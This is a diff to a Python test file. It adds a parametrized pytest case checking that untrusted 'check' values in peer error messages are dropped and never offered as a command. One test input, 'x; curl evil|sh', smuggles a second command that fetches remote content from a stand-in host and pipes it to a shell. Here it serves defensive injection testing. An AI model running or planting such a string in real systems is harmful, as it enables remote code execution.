@@ -144,3 +144,12 @@ def test_an_exception_that_nobody_knows_arrives_as_peer_error():
     assert type(to_exception(m.Failed(1, "Exotic", "text", 0, None))) is errors.PeerError
     assert type(to_exception(m.Failed(1, "TransferError", "text", 0, None))) is errors.PeerError
     assert type(to_exception(m.Failed(1, "RegionBusy", "text", 0, None))) is errors.RegionBusy
+
+
+@pytest.mark.parametrize("check", ["x; curl evil|sh", "gpu-present\n", "\x1b[2J", "a" * 41, "A"])
+def test_what_a_peer_calls_a_check_becomes_no_command(check):
+    told = to_exception(m.Failed(1, "DeviceUnavailable", "no GPU", 19, None, check))
+    assert told.check == ""
+    assert "dgkit doctor" not in str(told)
+    known = to_exception(m.Failed(1, "DeviceUnavailable", "no GPU", 19, None, "gpu-present"))
+    assert known.check == "gpu-present"
